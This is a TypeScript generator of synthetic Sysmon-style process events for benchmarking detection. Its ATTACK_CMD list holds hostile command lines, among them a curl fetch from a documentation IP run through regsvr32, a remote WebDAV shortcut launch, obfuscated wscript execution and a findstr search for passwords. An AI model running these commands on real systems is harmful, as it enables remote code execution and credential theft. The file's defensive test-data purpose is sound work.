/**
 * Deterministic generator of realistic ECS process events for benchmarks: mostly ordinary
 * processes, some benign cmd.exe use, and under 1% attack-like command shells (a fixed seed, so
 * every run sees the same data).
 */

import { seededRandom } from '../test/helpers/rng.js';

/** mulberry32 (tiny, fast, deterministic), shared with the tests' generators. */
export const rng = seededRandom;

const ORDINARY = [
  [
    'svchost.exe',
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    'services.exe',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'chrome.exe',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
    'chrome.exe',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  [
    'conhost.exe',
    'C:\\Windows\\System32\\conhost.exe',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'cmd.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'powershell.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\agent\\inventory.ps1',
    'svchost.exe',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'WmiPrvSE.exe',
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    'svchost.exe',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'msedge.exe',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://intranet.example/',
    'explorer.exe',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'OneDrive.exe',
    'C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
    '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
    'explorer.exe',
    'C:\\Windows\\explorer.exe',
  ],
  ['bash', '/usr/bin/bash', '/bin/bash -c /usr/lib/update-notifier/apt-check', 'systemd', '/usr/lib/systemd/systemd'],
  ['python3', '/usr/bin/python3', '/usr/bin/python3 /usr/bin/unattended-upgrade', 'sh', '/usr/bin/sh'],
  [
    'git.exe',
    'C:\\Program Files\\Git\\cmd\\git.exe',
    'git.exe fetch --all',
    'Code.exe',
    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
  ],
] as const;

const BENIGN_CMD = [
  'cmd.exe /c dir /b C:\\ProgramData\\Backup',
  'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\Agent\\collect.bat"',
  'cmd /c ping -n 1 fileserver01',
  'cmd.exe /c echo %DATE% >> C:\\Logs\\heartbeat.txt',
  'cmd.exe /q /c net use Z: \\\\fileserver01\\share /persistent:no',
];

const ATTACK_CMD = [
  'cmd.exe /c echo Set o=CreateObject("WScript.Shell") > %TEMP%\\a.vbs & wscript %TEMP%\\a.vbs',
  'cmd /c curl http://198.51.100.7/a.sct -o a.sct & regsvr32 /s /n /u /i:a.sct scrobj.dll',
  'cmd.exe /c start \\\\203.0.113.9@SSL\\DavWWWRoot\\invoice.lnk',
  'cmd /V:ON /c set x=wscri& set y=pt& call %x%%y% evil.js',
  'cmd.exe /c findstr /i passw C:\\Users\\alice\\Documents\\*.txt',
];

export interface GenOptions {
  count: number;
  seed?: number;
  hosts?: number;
}

function splitArgs(cl: string): string[] {
  return cl.split(' ').filter(Boolean);
}

/** Generates `count` ECS documents (objects, not text). */
export function generateProcessEvents(opts: GenOptions): Record<string, unknown>[] {
  const r = rng(opts.seed ?? 42);
  const hosts = opts.hosts ?? 200;
  const out: Record<string, unknown>[] = [];
  let t = Date.UTC(2026, 10, 1);
  for (let i = 0; i < opts.count; i++) {
    t += Math.floor(r() * 50);
    const hostN = Math.floor(r() * hosts);
    const linux = hostN % 10 === 0;
    const roll = r();
    let name: string, exe: string, cl: string, pname: string, pexe: string;
    if (roll < 0.006) {
      cl = ATTACK_CMD[Math.floor(r() * ATTACK_CMD.length)];
      name = 'cmd.exe';
      exe = 'C:\\Windows\\System32\\cmd.exe';
      pname = r() < 0.5 ? 'explorer.exe' : 'mshta.exe';
      pexe = pname === 'explorer.exe' ? 'C:\\Windows\\explorer.exe' : 'C:\\Windows\\System32\\mshta.exe';
    } else if (roll < 0.08) {
      cl = BENIGN_CMD[Math.floor(r() * BENIGN_CMD.length)];
      name = 'cmd.exe';
      exe = 'C:\\Windows\\System32\\cmd.exe';
      pname = 'svchost.exe';
      pexe = 'C:\\Windows\\System32\\svchost.exe';
    } else {
      const o = ORDINARY[Math.floor(r() * ORDINARY.length)];
      [name, exe, cl, pname, pexe] = o;
    }
    out.push({
      '@timestamp': new Date(t).toISOString(),
      event: {
        category: ['process'],
        type: ['start'],
        action: 'start',
        kind: 'event',
        ingested: new Date(t + 2000).toISOString().slice(0, 19) + 'Z',
      },
      host: { id: `host-${hostN}`, name: `ws-${hostN}`, os: { type: linux ? 'linux' : 'windows' } },
      user: { id: 'S-1-5-21-1004336348-1177238915-682003330-1001', name: 'alice', domain: 'CORP' },
      process: {
        entity_id: `p-${i}`,
        pid: 1000 + (i % 60000),
        name,
        executable: exe,
        command_line: cl,
        args: splitArgs(cl),
        args_count: splitArgs(cl).length,
        parent: { entity_id: `pp-${i >> 3}`, pid: 500 + (i % 4000), name: pname, executable: pexe },
      },
      data_stream: { type: 'logs', dataset: 'windows.sysmon_operational', namespace: 'default' },
    });
  }
  return out;
}
